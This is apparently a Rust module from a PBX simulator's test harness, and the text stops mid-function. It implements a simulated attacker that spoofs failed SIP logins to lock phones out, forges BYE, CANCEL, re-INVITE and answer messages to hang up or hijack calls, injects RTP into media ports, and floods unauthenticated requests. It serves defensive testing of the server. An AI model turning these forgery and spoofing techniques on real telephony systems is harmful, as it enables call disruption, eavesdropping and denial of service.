//! An attacker from outside the office: the password guesser ([`crate::scanner`]) grown into
//! someone who tries to hang up, hijack, listen to and stop other people's calls, with nothing
//! but UDP datagrams. Sans-IO like [`crate::phone`]: time comes in as `now`, datagrams in and
//! out as values, randomness from its own seed.
//!
//! **What it can see.** It is *off-path*: it receives only what is sent to its own address
//! (one IP, any port), as anyone on the Internet does. It can *send* anything, from any source
//! address it likes — the simulated network, like much of the real one, does not check
//! sources (BCP 38 is not everywhere) — but answers to a spoofed source go to that source, not
//! to it. Two options widen its view:
//! - `insider`: it is also the user of one office phone (a registered extension) and reads
//!   everything that phone sends and receives, so it learns the *shape* of pbx's identifiers
//!   (tags, branches, B-leg Call-IDs, RTP ports) from its own calls. It never reuses its own
//!   calls' identifiers as they are (that would only hang up its own calls): it derives new
//!   ones from them — neighbours, as if they were counters — and scans the RTP ports next to
//!   the ones its calls were given.
//! - `on_path`: it sees every datagram to and from pbx (a tap on pbx's network). No defence
//!   of plain UDP SIP and RTP stands against that (its forgeries carry the real identifiers,
//!   from the real addresses); the simulator uses it to prove that the checkers catch a
//!   stranger who succeeds. It is off unless a run asks for it.
//!
//! **What it does**, in campaigns the world starts (see [`Campaign`]):
//! - *Lockout*: keeps one phone's address locked out by spoofing failed logins from it. Every
//!   [`LOCKOUT_BURST_INTERVAL`] it fetches a fresh nonce at its own address (an unauthenticated
//!   REGISTER for the phone's extension), then sends REGISTERs with wrong digests *claiming the
//!   phone's IP* — from the phone's own port and from other ports — with that nonce, with a
//!   forged one, and (on-path only) with the nonce pbx last sent to the phone's address.
//! - *Dialog*: forged BYE, re-INVITE (moving media to itself) and CANCEL requests, and forged
//!   180/486/603/200 answers to pbx's INVITEs, naming dialogs by guessed To tags, From tags,
//!   branches and Call-IDs: random ones, ones derived from its own calls (insider), or the
//!   real ones (on-path). From its own address (so it sees what pbx answers) or from an office
//!   phone's address.
//! - *RTP*: streams of well-formed RTP (one new random SSRC, consecutive sequence numbers, 20
//!   ms apart — enough packets for a source-learning relay to consider it) to pbx's media
//!   ports: random ones, ports next to those of its own calls (insider), or the real ports of
//!   calls it saw (on-path, from the phone's declared address). Mostly PCMU carrying
//!   [`ATTACK_PAYLOAD`] (not the office's silence), sometimes a payload type nobody
//!   negotiated, sometimes an RTCP BYE to the RTCP port. From its own address (so it would
//!   receive what pbx sends back) or a spoofed one.
//! - *Flood*: unauthenticated REGISTERs and INVITEs, each from a different spoofed source, at a
//!   bounded rate, so the simulation stays fast.
//!
//! It reports what pbx answered at its own address ([`AttackerOutput::Answered`]) and any
//! request pbx sends it ([`AttackerOutput::Contacted`]): pbx talking to it as to a party of a
//! call is a hijack. The world checks the rest (what phones hear, where pbx sends media, who
//! gets 403).

use crate::phone::{Challenge, authorization, media_of, tag_of};
use bytes::{BufMut, Bytes, BytesMut};
use pbx_actors::Timestamp;
use pbx_actors::sip::message::{Message, Method, Name, Request, Response, parse_datagram};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::{BTreeMap, VecDeque};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

/// A lockout campaign fetches a nonce and sends its spoofed failures this often: within
/// pbx's failure window (60 s), and often enough to keep a block (300 s) going.
pub const LOCKOUT_BURST_INTERVAL: Duration = Duration::from_secs(50);
/// Spoofed failed logins per burst: one more than pbx's default failures before a block.
pub const LOCKOUT_SPOOFS_PER_BURST: u32 = 6;
/// RTP packets of one stream are this far apart (20 ms of audio each).
pub const RTP_PACKET_INTERVAL: Duration = Duration::from_millis(20);
/// Pause between two streams or two forgeries (uniform, ms).
const RTP_PORT_GAP_MS: (u64, u64) = (20, 400);
const DIALOG_GAP_MS: (u64, u64) = (200, 5_000);
/// A flood sends its requests in steps this far apart.
const FLOOD_STEP: Duration = Duration::from_millis(50);
/// The byte it fills its RTP payload with: anything but the office phones' PCMU silence (0xFF).
pub const ATTACK_PAYLOAD: u8 = 0x2A;
/// A payload type no offer in the office uses (dynamic range, not telephone-event's 101).
const PT_UNUSED: u8 = 96;
const RTP_PAYLOAD_BYTES: usize = 160;
/// Identifiers of each kind it remembers from what it saw; the oldest go first.
const SEEN_MAX: usize = 64;
/// On the path, forgeries name one of this many of the newest dialogs or calls it saw.
const PICK_NEWEST: usize = 4;
/// Its forged requests whose answers it waits for, by branch; the oldest are forgotten.
const FORGED_MAX: usize = 256;
/// How far a derived identifier is from a seen one ("the next call's tag").
const NEIGHBOUR_MAX: u128 = 16;
/// Pairs on either side of a seen media port that an insider's RTP campaign sweeps.
const PORT_NEIGHBOURS_MAX: u16 = 128;

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum AttackKind {
    Lockout,
    Dialog,
    Rtp,
    Flood,
}

impl AttackKind {
    pub const ALL: [AttackKind; 4] = [AttackKind::Lockout, AttackKind::Dialog, AttackKind::Rtp, AttackKind::Flood];

    pub fn name(self) -> &'static str {
        match self {
            AttackKind::Lockout => "lockout",
            AttackKind::Dialog => "dialog",
            AttackKind::Rtp => "rtp",
            AttackKind::Flood => "flood",
        }
    }

    fn index(self) -> usize {
        self as usize
    }
}

/// A campaign the world starts; it runs until done (or until [`Attacker::stop`]).
#[derive(Clone, Debug)]
pub enum Campaign {
    /// Keep the phone at `target` (extension `user`) locked out until `until`.
    Lockout { target: SocketAddr, user: String, until: Timestamp },
    /// This many forged requests and answers.
    Dialog { forgeries: u32 },
    /// Streams to this many ports, `packets` packets each.
    Rtp { ports: u32, packets: u32 },
    /// This many unauthenticated requests at this rate, each from its own spoofed source.
    Flood { requests: u32, rate_per_s: u32 },
}

impl Campaign {
    pub fn kind(&self) -> AttackKind {
        match self {
            Campaign::Lockout { .. } => AttackKind::Lockout,
            Campaign::Dialog { .. } => AttackKind::Dialog,
            Campaign::Rtp { .. } => AttackKind::Rtp,
            Campaign::Flood { .. } => AttackKind::Flood,
        }
    }
}

#[derive(Clone, Debug)]
pub struct AttackerConfig {
    /// Its own address: the only one it receives at.
    pub address: IpAddr,
    pub pbx: SocketAddr,
    /// pbx's media port range, as its documentation gives it.
    pub rtp_ports: (u16, u16),
    /// The office's extensions and their phones' SIP addresses: a phone book.
    pub phones: Vec<(String, SocketAddr)>,
    pub insider: bool,
    pub on_path: bool,
}

#[derive(Debug)]
pub enum AttackerOutput {
    Transmit {
        from: SocketAddr,
        to: SocketAddr,
        bytes: Bytes,
    },
    /// pbx answered one of its requests at its own address: a REGISTER (its nonce probes), or
    /// a forged BYE, re-INVITE or CANCEL naming somebody else's dialog or transaction.
    Answered {
        method: &'static str,
        code: u16,
    },
    /// pbx sent it a request (an ACK to a forged 200, a BYE, a re-INVITE): pbx takes it for a
    /// party of a call.
    Contacted {
        method: String,
    },
}

/// What it did, per campaign kind.
#[derive(Clone, Debug, Default)]
pub struct AttackStats {
    pub campaigns: [u64; 4],
    /// Datagrams it sent.
    pub sent: [u64; 4],
    /// REGISTERs claiming an office phone's address.
    pub spoofed_logins: u64,
    /// Forgeries built from identifiers it saw (insider: derived; on-path: real).
    pub learned_forgeries: u64,
    /// RTP/RTCP packets sent, and streams aimed at ports next to ones it saw.
    pub rtp_packets: u64,
    pub rtp_learned_streams: u64,
    /// What pbx answered at its own address, by method and code.
    pub answers: BTreeMap<(&'static str, u16), u64>,
    /// Datagrams that reached it from pbx's media ports (a leak: the checkers flag it too).
    pub media_received: u64,
    /// Identifiers it learned by watching (its own phone, or the tap).
    pub observed: u64,
}

impl AttackStats {
    pub fn campaigns(&self, kind: AttackKind) -> u64 {
        self.campaigns[kind.index()]
    }

    pub fn sent(&self, kind: AttackKind) -> u64 {
        self.sent[kind.index()]
    }

    /// Answers with this code to this method.
    pub fn answered(&self, method: &str, code: u16) -> u64 {
        self.answers.iter().filter(|((m, c), _)| *m == method && *c == code).map(|(_, n)| n).sum()
    }
}

/// An INVITE pbx sent to a phone (a B-leg), as the tap saw it: what a forged answer needs.
#[derive(Clone, Debug)]
struct InviteSeen {
    via: String,
    from: String,
    to: String,
    call_id: String,
    cseq: u32,
}

/// A phone's INVITE to pbx (an A-leg), as seen: what a forged CANCEL needs.
#[derive(Clone, Debug)]
struct CallSeen {
    uri: String,
    branch: String,
    from: String,
    to: String,
    call_id: String,
    cseq: u32,
    phone: SocketAddr,
}

/// An established dialog between a phone and pbx, written as the phone writes its requests.
#[derive(Clone, Debug)]
struct DialogSeen {
    uri: String,
    from: String,
    to: String,
    call_id: String,
    phone: SocketAddr,
}

/// What it learned by watching, each list bounded.
#[derive(Debug, Default)]
struct Seen {
    invites: VecDeque<InviteSeen>,
    calls: VecDeque<CallSeen>,
    dialogs: VecDeque<DialogSeen>,
    /// pbx's leg ids (the 128-bit value in its tags, branches and B-leg Call-IDs).
    leg_ids: VecDeque<u128>,
    /// pbx's media address for one side, and that side's phone's declared RTP address.
    media: VecDeque<(SocketAddr, Option<SocketAddr>)>,
    /// Call-ID → (pbx's media address, the phone's), while one of them is still unknown.
    media_halves: BTreeMap<String, (Option<SocketAddr>, Option<SocketAddr>)>,
    /// The last challenge pbx sent to each address (on-path only).
    challenges: BTreeMap<IpAddr, Challenge>,
}

fn push_bounded<T>(list: &mut VecDeque<T>, item: T) {
    if list.len() >= SEEN_MAX {
        list.pop_front();
    }
    list.push_back(item);
}

/// One RTP (or RTCP) stream under way.
#[derive(Debug)]
struct Stream {
    from: SocketAddr,
    to: SocketAddr,
    ssrc: u32,
    seq: u16,
    timestamp: u32,
    pt: u8,
    rtcp: bool,
    left: u32,
}

#[derive(Debug)]
enum State {
    Lockout {
        target: SocketAddr,
        user: String,
        until: Timestamp,
        probe: Option<String>,
    },
    Dialog {
        left: u32,
    },
    /// `swept`: streams aimed at the neighbours of the freshest port it saw so far.
    Rtp {
        ports: u32,
        packets: u32,
        stream: Option<Stream>,
        swept: u16,
    },
    Flood {
        left: u32,
        per_step: u32,
    },
}

#[derive(Debug)]
struct Running {
    next_at: Timestamp,
    state: State,
}

pub struct Attacker {
    config: AttackerConfig,
    rng: StdRng,
    running: Vec<Running>,
    seen: Seen,
    /// Branches of its requests that pbx may answer at its own address → method.
    forged: BTreeMap<String, &'static str>,
    forged_order: VecDeque<String>,
    outputs: VecDeque<AttackerOutput>,
    cseq: u32,
    pub stats: AttackStats,
}

impl Attacker {
    pub fn new(config: AttackerConfig, seed: u64) -> Attacker {
        Attacker {
            config,
            rng: StdRng::seed_from_u64(seed),
            running: Vec::new(),
            seen: Seen::default(),
            forged: BTreeMap::new(),
            forged_order: VecDeque::new(),
            outputs: VecDeque::new(),
            cseq: 0,
            stats: AttackStats::default(),
        }
    }

    pub fn address(&self) -> IpAddr {
        self.config.address
    }

    pub fn poll_output(&mut self) -> Option<AttackerOutput> {
        self.outputs.pop_front()
    }

    pub fn poll_timeout(&self) -> Option<Timestamp> {
        self.running.iter().map(|r| r.next_at).min()
    }

    /// Starts a campaign; its first step is due at once.
    pub fn start(&mut self, now: Timestamp, campaign: Campaign) {
        self.stats.campaigns[campaign.kind().index()] += 1;
        let state = match campaign {
            Campaign::Lockout { target, user, until } => State::Lockout { target, user, until, probe: None },
            Campaign::Dialog { forgeries } => State::Dialog { left: forgeries },
            Campaign::Rtp { ports, packets } => State::Rtp { ports, packets: packets.max(1), stream: None, swept: 0 },
            Campaign::Flood { requests, rate_per_s } => {
                let per_step = (u64::from(rate_per_s) * FLOOD_STEP.as_millis() as u64 / 1000).max(1) as u32;
                State::Flood { left: requests, per_step }
            }
        };
        self.running.push(Running { next_at: now, state });
        self.timeout(now);
    }

    /// Every campaign ends now (the run drains).
    pub fn stop(&mut self) {
        self.running.clear();
    }

    /// Runs every step that is due.
    pub fn timeout(&mut self, now: Timestamp) {
        let mut i = 0;
        while i < self.running.len() {
            if self.running[i].next_at <= now {
                let mut running = self.running.swap_remove(i);
                if self.step(now, &mut running) {
                    self.running.push(running);
                }
                continue;
            }
            i += 1;
        }
        self.running.sort_by_key(|r| r.next_at);
    }

    /// One step of a campaign; false once it is over.
    fn step(&mut self, now: Timestamp, running: &mut Running) -> bool {
        match &mut running.state {
            State::Lockout { target, user, until, probe } => {
                if now >= *until {
                    return false;
                }
                // A fresh nonce first: an unauthenticated REGISTER from its own address.
                let call_id = format!("{}@{}", self.hex(), self.config.address);
                let (target, user) = (*target, user.clone());
                *probe = Some(call_id.clone());
                let from = SocketAddr::new(self.config.address, 5060);
                let bytes = self.register(from, &user, &call_id, None);
                self.forge_record(&bytes, "REGISTER");
                self.send(AttackKind::Lockout, from, self.config.pbx, bytes);
                // On-path it has the nonce pbx last sent to the phone's own address too.
                if let Some(challenge) = self.seen.challenges.get(&target.ip()).cloned() {
                    for _ in 0..2 {
                        self.spoofed_login(target, &user, &challenge);
                    }
                }
                running.next_at = now + LOCKOUT_BURST_INTERVAL;
                true
            }
            State::Dialog { left } => {
                if *left == 0 {
                    return false;
                }
                *left -= 1;
                self.forge_dialog();
                running.next_at = now + self.gap(DIALOG_GAP_MS);
                true
            }
            State::Rtp { ports, packets, stream, swept } => {
                if stream.as_ref().is_none_or(|s| s.left == 0) {
                    if *ports == 0 {
                        return false;
                    }
                    *ports -= 1;
                    *stream = Some(self.new_stream(*packets, swept));
                }
                let Some(s) = stream.as_mut() else { return false };
                let bytes = rtp_packet(s);
                s.left -= 1;
                s.seq = s.seq.wrapping_add(1);
                s.timestamp = s.timestamp.wrapping_add(RTP_PAYLOAD_BYTES as u32);
                let (from, to, more) = (s.from, s.to, s.left > 0);
                self.stats.rtp_packets += 1;
                self.send(AttackKind::Rtp, from, to, bytes);
                running.next_at = if more { now + RTP_PACKET_INTERVAL } else { now + self.gap(RTP_PORT_GAP_MS) };
                true
            }
            State::Flood { left, per_step } => {
                if *left == 0 {
                    return false;
                }
                let n = (*per_step).min(*left);
                *left -= n;
                for _ in 0..n {
                    self.flood_request();
                }
                running.next_at = now + FLOOD_STEP;
                true
            }
        }
    }

    /// A datagram to its own address: an answer to one of its requests, a request from pbx, or
    /// media pbx should never have sent it.
    pub fn datagram(&mut self, now: Timestamp, from: SocketAddr, to: SocketAddr, bytes: &[u8]) {
        let _ = to;
        if from.ip() == self.config.pbx.ip() && from.port() != self.config.pbx.port() {
            self.stats.media_received += 1;
            return;
        }
        match parse_datagram(bytes) {
            Ok(Message::Response(response)) => self.on_response(now, &response),
            Ok(Message::Request(request)) => {
                self.outputs.push_back(AttackerOutput::Contacted { method: request.method.to_string() })
            }
            Err(_) => {}
        }
    }

    fn on_response(&mut self, _now: Timestamp, response: &Response) {
        let Some(branch) = response.branch() else { return };
        let Some(&method) = self.forged.get(&branch) else { return };
        if response.code < 200 {
            return;
        }
        *self.stats.answers.entry((method, response.code)).or_default() += 1;
        self.outputs.push_back(AttackerOutput::Answered { method, code: response.code });
        // A lockout probe's challenge: the nonce its spoofed failures use.
        if method != "REGISTER" || response.code != 401 {
            return;
        }
        let call_id = response.call_id().unwrap_or_default();
        let target = self.running.iter().find_map(|r| match &r.state {
            State::Lockout { target, user, probe: Some(p), .. } if *p == call_id => Some((*target, user.clone())),
            _ => None,
        });
        let Some((target, user)) = target else { return };
        let Some(challenge) = challenge_of(response, &Name::WWW_AUTHENTICATE) else { return };
        for i in 0..LOCKOUT_SPOOFS_PER_BURST {
            let mut challenge = challenge.clone();
            if i + 1 == LOCKOUT_SPOOFS_PER_BURST {
                // One with a nonce pbx never minted.
                challenge.nonce = format!("{}{}", self.hex(), self.hex());
            }
            // From the phone's own port and from others.
            let port = if i % 2 == 0 { target.port() } else { self.rng.random_range(1024..=65_535) };
            self.spoofed_login(SocketAddr::new(target.ip(), port), &user, &challenge);
        }
    }

    /// What its own phone (insider) or the tap (on-path) saw go between a phone and pbx.
    pub fn observe(&mut self, from: SocketAddr, to: SocketAddr, bytes: &[u8]) {
        if !bytes.first().is_some_and(u8::is_ascii_alphabetic) {
            return; // RTP or RTCP: the SDP already said where it goes.
        }
        let pbx = self.config.pbx.ip();
        let (phone, towards_phone) = if from.ip() == pbx { (to, true) } else { (from, false) };
        // Between pbx and an office phone only (the tap also sees its own forgeries).
        if !self.config.phones.iter().any(|(_, sip)| *sip == phone) {
            return;
        }
        let Ok(message) = parse_datagram(bytes) else { return };
        self.stats.observed += 1;
        match message {
            Message::Request(request) => self.observe_request(&request, bytes, phone, towards_phone),
            Message::Response(response) => self.observe_response(&response, phone, towards_phone),
        }
    }

    fn observe_request(&mut self, request: &Request, bytes: &[u8], phone: SocketAddr, towards_phone: bool) {
        let (Some(call_id), Some(cseq)) = (request.call_id(), request.cseq()) else { return };
        if request.method != Method::INVITE {
            return;
        }
        self.observe_media(&call_id, &request.body, towards_phone);
        let from = request.header(&Name::FROM).unwrap_or_default().to_owned();
        let to = request.header(&Name::TO).unwrap_or_default().to_owned();
        if tag_of(&to).is_some() {
            return; // A re-INVITE: the dialog is known from its 2xx.
        }
        if towards_phone {
            if let Some(leg) = tag_of(&from).and_then(leg_id) {
                push_bounded(&mut self.seen.leg_ids, leg);
            }
            let via = request.header(&Name::VIA).unwrap_or_default().to_owned();
            let invite = InviteSeen { via, from, to, call_id, cseq: cseq.cseq };
            // On the path it races the callee: a forged answer the moment pbx's INVITE passes.
            if self.config.on_path && self.take_forgery() {
                let code = [486, 603, 200][self.rng.random_range(0..3)];
                let source = self.source();
                self.forge_answer(&invite, code, source, true);
            }
            push_bounded(&mut self.seen.invites, invite);
        } else {
            let uri = first_line_uri(bytes).unwrap_or_default();
            let branch = request.branch().unwrap_or_default();
            let call = CallSeen { uri, branch, from, to, call_id, cseq: cseq.cseq, phone };
            push_bounded(&mut self.seen.calls, call);
        }
    }

    fn observe_response(&mut self, response: &Response, phone: SocketAddr, towards_phone: bool) {
        let Some(cseq) = response.cseq() else { return };
        if towards_phone
            && (response.code == 401 || response.code == 407)
            && let Some(c) = challenge_of(response, &Name::WWW_AUTHENTICATE)
                .or_else(|| challenge_of(response, &Name::PROXY_AUTHENTICATE))
        {
            if self.seen.challenges.len() >= SEEN_MAX && !self.seen.challenges.contains_key(&phone.ip()) {
                self.seen.challenges.pop_first();
            }
            self.seen.challenges.insert(phone.ip(), c);
        }
        if cseq.method != Method::INVITE {
            return;
        }
        let call_id = response.call_id().unwrap_or_default();
        self.observe_media(&call_id, &response.body, towards_phone);
        if !(200..300).contains(&response.code) {
            return;
        }
        let (from, to) =
            (response.header(&Name::FROM).unwrap_or_default(), response.header(&Name::TO).unwrap_or_default());
        // The phone's requests in this dialog: its own tag on From, pbx's on To.
        let (mine, theirs) = if towards_phone { (from, to) } else { (to, from) };
        if let Some(leg) = tag_of(theirs).and_then(leg_id) {
            push_bounded(&mut self.seen.leg_ids, leg);
        }
        let uri = format!("sip:{}", self.config.pbx);
        let dialog = DialogSeen { uri, from: mine.to_owned(), to: theirs.to_owned(), call_id, phone };
        // On the path it strikes as the call is answered: a BYE or re-INVITE in the new dialog.
        if self.config.on_path && self.take_forgery() {
            let method = if self.rng.random_bool(0.5) { "BYE" } else { "INVITE" };
            let source = if self.rng.random_bool(0.5) { phone } else { SocketAddr::new(self.config.address, 5060) };
            self.forge_request(method, &dialog, source, true);
        }
        push_bounded(&mut self.seen.dialogs, dialog);
    }

    /// An SDP body between a phone and pbx: pbx's media address for that phone's side, or the
    /// phone's own; once both are known, a media target.
    fn observe_media(&mut self, call_id: &str, body: &[u8], towards_phone: bool) {
        let Some(address) = media_of(body) else { return };
        if self.seen.media_halves.len() >= SEEN_MAX && !self.seen.media_halves.contains_key(call_id) {
            self.seen.media_halves.pop_first();
        }
        let halves = self.seen.media_halves.entry(call_id.to_owned()).or_default();
        if towards_phone {
            halves.0 = Some(address);
        } else {
            halves.1 = Some(address);
        }
        if let (Some(pbx), phone) = *halves {
            // An insider's own phone needs only pbx's port (it scans next to it).
            if phone.is_some() || !self.config.on_path {
                if !self.seen.media.iter().any(|(p, _)| *p == pbx) {
                    push_bounded(&mut self.seen.media, (pbx, phone));
                }
                if phone.is_some() {
                    self.seen.media_halves.remove(call_id);
                }
            }
        }
    }

    // ---- building what it sends ----

    fn send(&mut self, kind: AttackKind, from: SocketAddr, to: SocketAddr, bytes: Bytes) {
        self.stats.sent[kind.index()] += 1;
        self.outputs.push_back(AttackerOutput::Transmit { from, to, bytes });
    }

    fn hex(&mut self) -> String {
        format!("{:032x}", self.rng.random::<u128>())
    }

    fn gap(&mut self, (low, high): (u64, u64)) -> Duration {
        Duration::from_millis(self.rng.random_range(low..=high))
    }

    fn own(&mut self) -> SocketAddr {
        SocketAddr::new(self.config.address, self.rng.random_range(1024..=65_535))
    }

    /// A source for a forged request: its own address (it sees the answer) or, 30 %, an
    /// office phone's (the address a real request would come from).
    fn source(&mut self) -> SocketAddr {
        if !self.config.phones.is_empty() && self.rng.random_bool(0.3) {
            let i = self.rng.random_range(0..self.config.phones.len());
            return self.config.phones[i].1;
        }
        SocketAddr::new(self.config.address, 5060)
    }

    /// Remembers a request's branch, so its answer can be told apart.
    fn forge_record(&mut self, bytes: &[u8], method: &'static str) {
        let Ok(Message::Request(request)) = parse_datagram(bytes) else { return };
        let Some(branch) = request.branch() else { return };
        if self.forged_order.len() >= FORGED_MAX
            && let Some(oldest) = self.forged_order.pop_front()
        {
            self.forged.remove(&oldest);
        }
        self.forged_order.push_back(branch.clone());
        self.forged.insert(branch, method);
    }

    fn random_extension(&mut self) -> String {
        match self.config.phones.len() {
            0 => "1000".into(),
            n => self.config.phones[self.rng.random_range(0..n)].0.clone(),
        }
    }

    fn register(&mut self, source: SocketAddr, user: &str, call_id: &str, authorization: Option<String>) -> Bytes {
        self.cseq += 1;
        let domain = self.config.pbx.ip();
        let (branch, tag) = (format!("z9hG4bK{}", self.hex()), self.hex());
        let mut text = format!(
            "REGISTER sip:{domain} SIP/2.0\r\nVia: SIP/2.0/UDP {source};branch={branch};rport\r\nMax-Forwards: 70\r\n\
             From: <sip:{user}@{domain}>;tag={tag}\r\nTo: <sip:{user}@{domain}>\r\nCall-ID: {call_id}\r\n\
             CSeq: {} REGISTER\r\nContact: <sip:{user}@{source}>\r\nExpires: 3600\r\n",
            self.cseq
        );
        if let Some(value) = authorization {
            text.push_str(&format!("Authorization: {value}\r\n"));
        }
        text.push_str("Content-Length: 0\r\n\r\n");
        Bytes::from(text)
    }

    /// A REGISTER for `user` with a wrong digest, claiming to come from `claimed`.
    fn spoofed_login(&mut self, claimed: SocketAddr, user: &str, challenge: &Challenge) {
        let uri = format!("sip:{}", self.config.pbx.ip());
        let (password, cnonce) = (format!("guess-{}", self.hex()), format!("{:08x}", self.rng.random::<u32>()));
        let auth = authorization(user, &password, challenge, "REGISTER", &uri, &cnonce, 1);
        let call_id = format!("{}@{}", self.hex(), claimed.ip());
        let bytes = self.register(claimed, user, &call_id, Some(auth));
        self.stats.spoofed_logins += 1;
        self.send(AttackKind::Lockout, claimed, self.config.pbx, bytes);
    }

    /// A leg id: one seen (on-path: exactly; insider: a neighbour of one, never its own) or,
    /// failing that, random. The flag says whether it came from what it saw.
    fn leg_guess(&mut self) -> (u128, bool) {
        let seen = self.seen.leg_ids.len();
        if seen > 0 && (self.config.on_path || self.config.insider) && self.rng.random_bool(0.6) {
            let id = self.seen.leg_ids[self.rng.random_range(0..seen)];
            if self.config.on_path {
                return (id, true);
            }
            let delta = self.rng.random_range(1..=NEIGHBOUR_MAX);
            return (if self.rng.random_bool(0.5) { id.wrapping_add(delta) } else { id.wrapping_sub(delta) }, true);
        }
        (self.rng.random(), false)
    }

    /// One forged request or answer (see the module doc).
    fn forge_dialog(&mut self) {
        let roll = self.rng.random_range(0..100);
        let pbx = self.config.pbx;
        let domain = pbx.ip();
        let source = self.source();
        let on_path = self.config.on_path;
        let (bytes, method, learned) = if roll < 40 {
            // A request in a dialog: BYE, or a re-INVITE that moves the media to itself.
            let method = if roll < 25 { "BYE" } else { "INVITE" };
            let (dialog, learned) = match self.pick(on_path, |s| &s.dialogs) {
                Some(d) => (d, true),
                None => {
                    let (leg, learned) = self.leg_guess();
                    let (a, b) = (self.random_extension(), self.random_extension());
                    let dialog = DialogSeen {
                        uri: format!("sip:{b}@{pbx}"),
                        from: format!("<sip:{a}@{domain}>;tag={}", &self.hex()[..16]),
                        to: format!("<sip:{b}@{domain}>;tag={leg:032x}"),
                        call_id: if self.rng.random_bool(0.5) {
                            format!("{leg:032x}@pbx")
                        } else {
                            format!("{}@{}", &self.hex()[..16], domain)
                        },
                        phone: source,
                    };
                    (dialog, learned)
                }
            };
            // On the path: half from the phone's own address, half from its own (to see pbx's answer).
            let source = if learned && on_path && self.rng.random_bool(0.5) { dialog.phone } else { source };
            return self.forge_request(method, &dialog, source, learned);
        } else if roll < 55 {
            // A CANCEL of somebody's ringing call.
            let (call, learned) = match self.pick(on_path, |s| &s.calls) {
                Some(c) => (c, true),
                None => {
                    let (a, b) = (self.random_extension(), self.random_extension());
                    let call = CallSeen {
                        uri: format!("sip:{b}@{domain}"),
                        branch: format!("z9hG4bK{}", &self.hex()[..16]),
                        from: format!("<sip:{a}@{domain}>;tag={}", &self.hex()[..16]),
                        to: format!("<sip:{b}@{domain}>"),
                        call_id: format!("{}@{}", &self.hex()[..16], domain),
                        cseq: self.rng.random_range(1..4),
                        phone: source,
                    };
                    (call, false)
                }
            };
            let source = if learned { call.phone } else { source };
            let ids = (call.from.as_str(), call.to.as_str(), call.call_id.as_str(), call.cseq);
            let bytes = request("CANCEL", &call.uri, source, &call.branch, ids, &[], b"");
            (bytes, "CANCEL", learned)
        } else {
            // An answer to pbx's INVITE toward a callee.
            let (invite, learned) = match self.pick(on_path, |s| &s.invites) {
                Some(i) => (i, true),
                None => {
                    let (leg, learned) = self.leg_guess();
                    let (a, b) = (self.random_extension(), self.random_extension());
                    let invite = InviteSeen {
                        via: format!("SIP/2.0/UDP {pbx};branch=z9hG4bK{leg:032x}.{:x}", self.rng.random_range(1..4)),
                        from: format!("<sip:{a}@{domain}>;tag={leg:032x}"),
                        to: format!("<sip:{b}@{domain}>"),
                        call_id: format!("{leg:032x}@pbx"),
                        cseq: 1,
                    };
                    (invite, learned)
                }
            };
            let code = [180, 486, 603, 200][self.rng.random_range(0..4)];
            return self.forge_answer(&invite, code, source, learned);
        };
        self.stats.learned_forgeries += u64::from(learned);
        self.forge_record(&bytes, method);
        let bytes = maybe_mangle(&mut self.rng, bytes);
        self.send(AttackKind::Dialog, source, pbx, bytes);
    }

    /// A forged BYE or re-INVITE (moving the media to itself) in `dialog`.
    fn forge_request(&mut self, method: &'static str, dialog: &DialogSeen, source: SocketAddr, learned: bool) {
        let (body, contact) = self.sdp_and_contact();
        let cseq = self.rng.random_range(2..1000);
        let branch = format!("z9hG4bK{}", self.hex());
        let (extra, body) =
            if method == "INVITE" { (vec![("Contact", contact)], body) } else { (Vec::new(), Bytes::new()) };
        let ids = (dialog.from.as_str(), dialog.to.as_str(), dialog.call_id.as_str(), cseq);
        let bytes = request(method, &dialog.uri, source, &branch, ids, &extra, &body);
        self.stats.learned_forgeries += u64::from(learned);
        self.forge_record(&bytes, method);
        let bytes = maybe_mangle(&mut self.rng, bytes);
        self.send(AttackKind::Dialog, source, self.config.pbx, bytes);
    }

    /// A forged answer (`code`) to pbx's INVITE toward a callee; a 200 brings an SDP and a
    /// Contact that are the attacker's.
    fn forge_answer(&mut self, invite: &InviteSeen, code: u16, source: SocketAddr, learned: bool) {
        let to = format!("{};tag={}", invite.to, &self.hex()[..16]);
        let (sdp, contact) = self.sdp_and_contact();
        let (extra, body) = if code == 200 { (vec![("Contact", contact)], sdp) } else { (Vec::new(), Bytes::new()) };
        let bytes = response(code, &invite.via, (&invite.from, &to, &invite.call_id, invite.cseq), &extra, &body);
        self.stats.learned_forgeries += u64::from(learned);
        let bytes = maybe_mangle(&mut self.rng, bytes);
        self.send(AttackKind::Dialog, source, self.config.pbx, bytes);
    }

    /// A forgery of a dialog campaign under way, if one is, for something the tap just saw.
    fn take_forgery(&mut self) -> bool {
        self.running.iter_mut().any(|r| match &mut r.state {
            State::Dialog { left } if *left > 0 => {
                *left -= 1;
                true
            }
            _ => false,
        })
    }

    /// On-path, one of the newest real things it saw (60 %: those most likely still live),
    /// else nothing.
    fn pick<T: Clone>(&mut self, on_path: bool, list: impl Fn(&Seen) -> &VecDeque<T>) -> Option<T> {
        let n = list(&self.seen).len();
        if !(on_path && n > 0 && self.rng.random_bool(0.6)) {
            return None;
        }
        let i = n - 1 - self.rng.random_range(0..n.min(PICK_NEWEST));
        Some(list(&self.seen)[i].clone())
    }

    /// An SDP pointing media at itself, and a Contact that is itself.
    fn sdp_and_contact(&mut self) -> (Bytes, String) {
        let media = self.own();
        let ip = media.ip();
        let sdp = format!(
            "v=0\r\no=- 1 1 IN IP4 {ip}\r\ns=-\r\nc=IN IP4 {ip}\r\nt=0 0\r\nm=audio {} RTP/AVP 0\r\n\
             a=rtpmap:0 PCMU/8000\r\na=sendrecv\r\n",
            media.port() & !1
        );
        (Bytes::from(sdp), format!("<sip:x@{}:5060>", self.config.address))
    }

    /// A stream to one port: a random one; a neighbour of the freshest port its own calls were
    /// given (insider: nearest first, below and above in turn — the calls set up just before
    /// and just after its own, were ports handed out in order); or a real call's port, from
    /// the phone's declared address (on-path).
    fn new_stream(&mut self, packets: u32, swept: &mut u16) -> Stream {
        let (low, high) = self.config.rtp_ports;
        let pairs = (high.saturating_sub(low) / 2).max(1);
        let mut from = if self.rng.random_bool(0.8) { self.own() } else { self.spoofed() };
        let seen = self.seen.media.len();
        let port = if seen > 0 && (self.config.insider || self.config.on_path) && self.rng.random_bool(0.6) {
            self.stats.rtp_learned_streams += 1;
            if self.config.on_path {
                let (pbx, phone) = self.seen.media[self.rng.random_range(0..seen)];
                if let Some(phone) = phone {
                    from = phone;
                }
                pbx.port()
            } else {
                let (freshest, _) = self.seen.media[seen - 1];
